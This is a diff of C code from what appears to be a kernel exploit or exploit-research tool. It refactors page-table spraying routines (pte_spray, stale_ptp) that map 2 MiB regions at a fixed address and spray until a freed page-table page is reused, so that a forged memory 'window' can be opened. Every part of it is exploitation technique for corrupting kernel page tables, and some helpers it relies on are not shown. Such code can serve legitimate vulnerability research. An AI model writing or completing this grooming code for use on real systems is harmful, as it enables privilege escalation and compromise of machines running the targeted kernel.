@@ -17,20 +17,6 @@
 #define STALE_BLOCKS	16	/* 2 MiB blocks freed before */
 #define STALE_ORDER	9
 
-/* One page-table page behind each 2 MiB. */
-static volatile char *spray_region(int count, int protection)
-{
-	char *base = mmap((void *)SPRAY_BASE, count * PMD_SIZE, protection,
-			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE |
-			  MAP_FIXED_NOREPLACE, -1, 0);
-
-	if (base == MAP_FAILED)
-		return NULL;
-	madvise(base, count * PMD_SIZE, MADV_NOHUGEPAGE);
-	madvise(base, count * PMD_SIZE, MADV_DONTFORK);
-	return base;
-}
-
 static int find_changed(volatile char *base)
 {
 	int i;
@@ -43,7 +29,7 @@ static int find_changed(volatile char *base)
 
 enum outcome pte_spray(void)
 {
-	volatile char *base = spray_region(PTE_SPRAY, PROT_READ | PROT_WRITE);
+	volatile char *base = sparse_region(SPRAY_BASE, PTE_SPRAY, PROT_READ | PROT_WRITE);
 	struct slot slot;
 	char text[64] = "";
 	int i, hit, err;
@@ -95,29 +81,23 @@ static bool stale_has(const struct stale *stale, uint64_t addr)
 static bool spray_until_reused(volatile char *base, const struct stale *stale,
 			       struct window *window)
 {
-	struct slot slot;
 	int i;
 
 	for (i = 0; i < STALE_SPRAY; i++) {
 		(void)base[i * PMD_SIZE];
 		if (i % 8)
 			continue;
-		window->page = (char *)base + i * PMD_SIZE + PAGE_SIZE;
-		if (kwalk((uint64_t)window->page, LEVEL_PTE, 0, &slot))
+		if (!window_open_behind(window, base + i * PMD_SIZE))
 			return false;
-		if (!stale_has(stale, slot.slot))
-			continue;
-		window->slot = slot.slot;
-		window->size = PAGE_SIZE;
-		window->forged = 0;
-		return true;
+		if (stale_has(stale, window->slot))
+			return true;
 	}
 	return false;
 }
 
 enum outcome stale_ptp(void)
 {
-	volatile char *base = spray_region(STALE_SPRAY, PROT_READ);
+	volatile char *base = sparse_region(SPRAY_BASE, STALE_SPRAY, PROT_READ);
 	struct window window;
 	struct stale stale;
 	char text[64];
